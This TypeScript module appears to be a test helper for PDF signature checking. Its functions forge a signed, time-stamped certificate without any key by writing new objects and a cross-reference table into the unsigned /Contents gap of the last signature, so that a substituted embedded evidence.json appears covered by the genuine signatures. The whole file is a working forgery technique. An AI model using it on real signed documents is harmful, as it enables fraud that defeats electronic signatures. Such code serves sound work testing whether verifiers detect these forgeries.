/**
 * A certificate forged from a genuine one without any key: the unsigned gap is lengthened and contains another
 * document.
 */

const latin1 = (bytes: Uint8Array) => Buffer.from(bytes).toString("latin1");

interface Range {
  start: number;
  end: number;
  numbers: number[];
  /** The hex string in the gap, without the padding. */
  contents: string;
}

/** Ranges of a genuine certificate, in file order. */
export function rangesOf(pdf: Uint8Array): Range[] {
  const text = latin1(pdf);
  return [...text.matchAll(/\/ByteRange \[([\d ]+)\] \/Contents (<[0-9a-f]+>)/g)].map(
    ({ 1: range = "", 2: contents = "" }) => {
      const numbers = range.trim().split(" ").map(Number);
      const [, start = 0, end = 0] = numbers;
      return { start, end, numbers, contents: contents.replace(/(?:00)+>$/, ">") };
    },
  );
}

/**
 * Keeps every byte that the last time-stamp covers. The file's last `startxref` names an offset behind the gap: once the gap is
 * long enough, that offset is inside it, where a cross-reference of the forger stands.
 */
export function forgeInGap(sealed: Uint8Array, evidence: Uint8Array): Uint8Array {
  const earlier = rangesOf(sealed);
  const last = earlier.pop();
  if (!last) throw new Error("it is not sealed");
  const text = latin1(sealed);
  const startxref = Number(/startxref\n(\d+)\n%%EOF\n$/.exec(text)?.[1]);
  const behind = sealed.length - last.end;
  const build = (end: number) => {
    const objects = forgedObjects(evidence, [...earlier, { ...last, numbers: [0, last.start, end, behind] }]);
    let at = last.start + 1;
    const offsets = objects.map((object) => {
      const offset = at;
      at += object.length;
      return offset;
    });
    const body = objects.join("");
    // The objects must end before the offset that the cross-reference has to stand at.
    if (at > startxref) throw new Error("no room before the cross-reference");
    const rows = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
    const table = `xref\n0 1\n0000000000 65535 f \n1 ${offsets.length}\n${rows}trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R >>\n`;
    return `\n${body}${" ".repeat(startxref - at)}${table}`;
  };
  const length = build(last.end).length;
  const gap = build(last.start + length);
  return Buffer.concat([sealed.subarray(0, last.start), Buffer.from(gap, "latin1"), sealed.subarray(last.end)]);
}

/** Removes digits from the end of the last padding. Everything after it moves, so that `startxref` is wrong. */
export function withoutPadding(sealed: Uint8Array, digits: number): Uint8Array {
  const end = rangesOf(sealed).at(-1)?.end ?? 0;
  return Buffer.concat([sealed.subarray(0, end - 1 - digits), sealed.subarray(end - 1)]);
}

/** Its fields name the genuine signatures, the last one with another byte range. */
function forgedObjects(evidence: Uint8Array, signatures: readonly Range[]): string[] {
  const fields = signatures.map((_, at) => `${5 + 2 * at} 0 R`).join(" ");
  const file = 5 + 2 * signatures.length;
  const texts = [
    `<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R /AF [${file} 0 R] /Names << /EmbeddedFiles << /Names [(evidence.json) ${file} 0 R] >> >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 160] /Annots [${fields}] >>`,
    `<< /Fields [${fields}] /SigFlags 3 >>`,
    ...signatures.flatMap(({ numbers, contents }, at) => [
      `<< /Type /Annot /Subtype /Widget /FT /Sig /T (Acuse${at}) /V ${6 + 2 * at} 0 R /F 132 /P 3 0 R /Rect [0 0 0 0] >>`,
      `<< ${at ? STAMP : SIGNATURE} /ByteRange [${numbers.join(" ")}] /Contents ${contents} >>`,
    ]),
    `<< /Type /Filespec /F (evidence.json) /UF (evidence.json) /AFRelationship /Data /EF << /F ${file + 1} 0 R >> >>`,
    `<< /Type /EmbeddedFile /Length ${evidence.length} >>\nstream\n${latin1(evidence)}\nendstream`,
  ];
  return texts.map((text, at) => `${at + 1} 0 obj\n${text}\nendobj\n`);
}

const SIGNATURE = "/Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached";
const STAMP = "/Type /DocTimeStamp /Filter /Adobe.PPKLite /SubFilter /ETSI.RFC3161";
